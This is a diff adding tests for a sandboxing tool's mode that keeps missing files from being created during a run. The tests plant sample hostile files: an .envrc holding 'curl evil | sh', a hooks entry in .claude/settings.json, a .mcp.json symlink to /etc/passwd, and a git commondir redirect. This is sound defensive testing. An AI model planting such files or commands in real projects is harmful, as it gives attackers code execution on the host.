@@ -266,3 +266,136 @@ def test_a_commondir_redirect_is_not_left_for_the_host(jail: Path, allowed: bool
         assert (repo / ".git" / "commondir").exists() and planted
     else:
         assert not (repo / ".git" / "commondir").exists() and not planted
+
+
+# --- protect_missing = "placeholders": a missing name cannot be created during the run -----
+
+#: Plants at missing names, then reports and waits (the test looks at the host meanwhile).
+PLANT_MISSING = r"""
+echo 'curl evil | sh' > .envrc 2>/dev/null && echo envrc=ok || echo envrc=denied
+mkdir -p .claude 2>/dev/null; echo '{"hooks": 1}' > .claude/settings.json 2>/dev/null \
+  && echo claude=ok || echo claude=denied
+ln -s /etc/passwd .mcp.json 2>/dev/null && echo mcp=ok || echo mcp=denied
+echo planted
+read line
+"""
+
+
+def _plant_and_look(jail: Path, extra: list) -> tuple[dict[str, str], dict[str, bytes | None],
+                                                      subprocess.CompletedProcess]:
+    """Run PLANT_MISSING; while it waits on stdin, read what the host sees at each name;
+    then let it end. Returns (its statuses, the host's view mid-run, the finished run)."""
+    from sandboxing import hcp_argv, kill_by_pid
+    proc = subprocess.Popen(hcp_argv(jail, "sh", "-c", PLANT_MISSING, extra=extra),
+                            stdin=subprocess.PIPE, stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE, cwd="/")
+    try:
+        assert proc.stdout is not None and proc.stdin is not None
+        lines = []
+        while True:
+            line = proc.stdout.readline().decode()
+            assert line, proc.stderr.read() if proc.stderr else ""
+            if line.strip() == "planted":
+                break
+            lines.append(line)
+        seen: dict[str, bytes | None] = {}
+        for name in (".envrc", ".claude/settings.json", ".mcp.json"):
+            p = jail / name
+            seen[name] = (b"<link>" if p.is_symlink() else p.read_bytes()) \
+                if os.path.lexists(p) else None
+        stdout, stderr = proc.communicate(b"go\n", timeout=TIMEOUT)
+    finally:
+        kill_by_pid(proc)
+    done = subprocess.CompletedProcess(proc.args, proc.returncode, stdout, stderr)
+    return _statuses("".join(lines)), seen, done
+
+
+def test_placeholders_keep_missing_names_uncreatable_during_the_run(jail: Path,
+                                                                    tmp_path: Path) -> None:
+    receipt = tmp_path / "r.json"
+    statuses, seen, r = _plant_and_look(
+        jail, ["--protect-missing", "placeholders", "--receipt", receipt])
+    assert r.returncode == 0, show(r)
+    assert statuses == {"envrc": "denied", "claude": "denied", "mcp": "denied"}, statuses
+    # mid-run, the host sees the empty placeholders, never the planted content
+    assert seen == {".envrc": b"", ".claude/settings.json": None, ".mcp.json": b""}, seen
+    assert (jail / ".claude").is_dir() and not any((jail / ".claude").iterdir())
+    protected = read_receipt(receipt)["protected"]
+    for name in (".envrc", ".claude", ".mcp.json"):
+        assert protected[str(jail / name)].startswith("read-only bind (placeholder made"), \
+            protected
+    # the placeholders stay: the next run binds them as existing names (and reuses its cache)
+    receipt2 = tmp_path / "r2.json"
+    r2 = run_cli(jail, "sh", "-c", "echo x > .envrc", extra=[
+        "--protect-missing", "placeholders", "--receipt", receipt2])
+    assert r2.returncode != 0 and (jail / ".envrc").read_bytes() == b"", show(r2)
+    assert read_receipt(receipt2)["protected"][str(jail / ".envrc")] == "read-only bind"
+
+
+def test_the_sweep_leaves_a_window_during_the_run(jail: Path, tmp_path: Path) -> None:
+    """Negative control, and the documented trade-off of the default: with the sweep the
+    planted files exist on the host while the run lasts, and are gone after it."""
+    receipt = tmp_path / "r.json"
+    statuses, seen, r = _plant_and_look(jail, ["--receipt", receipt])
+    assert r.returncode == 0, show(r)
+    assert statuses == {"envrc": "ok", "claude": "ok", "mcp": "ok"}, statuses
+    assert seen == {".envrc": b"curl evil | sh\n", ".claude/settings.json": b'{"hooks": 1}\n',
+                    ".mcp.json": b"<link>"}, seen
+    for name in (".envrc", ".claude", ".mcp.json"):
+        assert not os.path.lexists(jail / name), name
+
+
+def test_placeholder_commondir_keeps_git_working(jail: Path) -> None:
+    """``.git/commondir`` gets ``.`` (the repository itself): git on the host and in the
+    sandbox works as before, and the redirect around .git/config cannot be planted."""
+    repo = _repo(jail)
+    r = run_cli(repo, "sh", "-c", COMMONDIR + "echo more > f && git add f && "
+                "git commit -q -m second && echo commit=ok",
+                extra=[*_envs(), "--protect-missing", "placeholders"])
+    assert r.returncode == 0, show(r)
+    assert _statuses(out(r)) == {"commondir": "denied", "commit": "ok"}, show(r)
+    assert (repo / ".git" / "commondir").read_bytes() == b".\n"
+    _git(repo, "status")
+    assert not (repo / "pwned-by-fsmonitor").exists()
+    log = _git(repo, "log", "--format=%s")
+    assert log.returncode == 0 and log.stdout.decode().split() == ["second", "first"], log
+    status = _git(repo, "status", "--short", "--untracked-files=all")
+    untracked = {line[3:] for line in status.stdout.decode().splitlines()}
+    assert status.returncode == 0 and "evil/config" in untracked, status
+    # the placeholders show as untracked empty files (the documented cost of the mode)
+    for name in untracked - {"evil/config", "evil/HEAD"} - {
+            n for n in untracked if n.startswith("evil/")}:
+        assert (repo / name).read_bytes() == b"", name
+
+
+def test_placeholders_never_make_dot_git(jail: Path) -> None:
+    """``git init`` in the sandbox still works (no empty .git in its way); what it made is
+    swept as before (a repository without hooks or config)."""
+    r = run_cli(jail, "sh", "-c", "git init -q && echo init=ok",
+                extra=["--protect-missing", "placeholders"])
+    assert r.returncode == 0 and "init=ok" in out(r), show(r)
+    assert (jail / ".git").is_dir() and not (jail / ".git" / "hooks").exists()
+
+
+def test_a_placeholder_that_cannot_be_made_refuses_the_run(jail: Path, tmp_path: Path) -> None:
+    """Fail closed: no placeholder, no run (one line naming the path), nothing spawned."""
+    if os.geteuid() == 0:
+        pytest.skip("as root a directory's mode does not stop mkdir; nobody's leg runs it")
+    git = jail / ".git"
+    git.mkdir()
+    git.chmod(0o555)  # .git/hooks cannot be made in it
+    proof = jail / "ran"
+    try:
+        r = run_cli(jail, "sh", "-c", f"touch {proof}",
+                    extra=["--protect-missing", "placeholders"])
+    finally:
+        git.chmod(0o755)
+    line = single_error_line(r)
+    assert r.returncode == EXIT_REFUSED, show(r)
+    assert f"protect_missing: cannot make the placeholder {git}/hooks" in line, line
+    assert not proof.exists() and not (git / "hooks").exists()
+
+
+def test_protect_missing_is_checked(jail: Path) -> None:
+    r = run_cli(jail, "true", extra=["--protect-missing", "always"])
+    assert r.returncode != 0 and "--protect-missing" in r.stderr.decode(), show(r)
